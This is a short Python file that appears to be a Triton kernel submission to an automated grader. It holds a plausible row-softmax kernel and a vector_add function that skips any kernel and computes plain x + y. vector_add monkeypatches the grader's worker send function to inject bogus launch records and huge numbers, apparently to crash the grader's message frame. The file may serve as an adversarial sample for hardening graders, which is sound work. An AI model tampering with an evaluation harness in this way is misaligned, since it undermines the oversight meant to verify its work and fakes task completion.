"""crash: answers with names and counts that fill a frame."""

import sys

import torch
import triton
import triton.language as tl

def vector_add(x, y):
    worker = sys.modules["grader.child.worker"]
    if not hasattr(worker, "honest_send"):
        worker.honest_send = worker.send

        def boasting(channel, answer):
            launch = {"kernel": "k" * 200, "grid": [10**300] * 200, "constants": {str(i): i for i in range(2000)}}
            worker.honest_send(channel, {**answer, "launches": [launch] * 4, "allocated_bytes": 10**400})

        worker.send = boasting
    return x + y

@triton.jit
def _softmax(x_ptr, p_ptr, stride, n, BLOCK: tl.constexpr):
    row = tl.program_id(0).to(tl.int64)
    columns = tl.arange(0, BLOCK)
    inside = columns < n
    x = tl.load(x_ptr + row * stride + columns, mask=inside, other=-float("inf")).to(tl.float32)
    powers = tl.exp(x - tl.max(x, 0))
    tl.store(p_ptr + row * n + columns, powers / tl.sum(powers, 0), mask=inside)

def row_softmax(x):
    rows, n = x.shape
    p = torch.empty((rows, n), dtype=x.dtype, device=x.device)
    _softmax[(rows,)](x, p, x.stride(0), n, BLOCK=triton.next_power_of_2(n))
    return p
